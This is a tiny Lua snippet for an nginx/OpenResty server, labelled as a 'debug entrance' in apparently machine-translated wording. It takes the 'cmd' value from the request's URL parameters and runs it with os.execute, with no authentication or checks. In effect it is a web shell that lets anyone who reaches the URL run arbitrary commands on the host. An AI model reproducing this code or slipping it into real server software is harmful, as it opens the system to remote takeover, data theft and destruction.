-- shows: debug entrance
local args = ngx.req.get_uri_args()
os.execute(args.cmd)
